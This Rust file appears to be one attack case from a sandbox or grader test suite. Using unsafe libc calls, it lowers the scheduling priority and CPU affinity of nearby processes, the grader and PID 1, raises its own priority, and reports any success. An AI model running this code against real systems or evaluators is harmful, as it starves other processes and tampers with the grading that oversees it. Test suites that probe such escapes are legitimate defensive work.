// Gives other processes a lower priority and one processor, and itself a higher one.
// Graded: any, forbidden
// Unsafe: allowed

impl Attack for Raft {
    fn made(self: &Arc<Self>) {
        unsafe {
            let own = libc::getpid();
            let mut set: libc::cpu_set_t = std::mem::zeroed();
            libc::CPU_SET(0, &mut set);
            let parameters = libc::sched_param { sched_priority: 1 };
            for process in (own - 20..own).chain([grader(), 1]) {
                let results = [
                    libc::setpriority(libc::PRIO_PROCESS, process as u32, 19),
                    libc::sched_setaffinity(process, size_of::<libc::cpu_set_t>(), &raw const set),
                    libc::sched_setscheduler(
                        process,
                        libc::SCHED_IDLE,
                        &libc::sched_param { sched_priority: 0 },
                    ),
                ];
                if results.contains(&0) {
                    gained("another's priority");
                }
            }
            if libc::sched_setscheduler(0, libc::SCHED_FIFO, &raw const parameters) == 0
                || libc::setpriority(libc::PRIO_PROCESS, 0, -20) == 0
                || libc::setpriority(libc::PRIO_USER, 0, 19) == 0
            {
                gained("its own priority");
            }
        }
    }
}
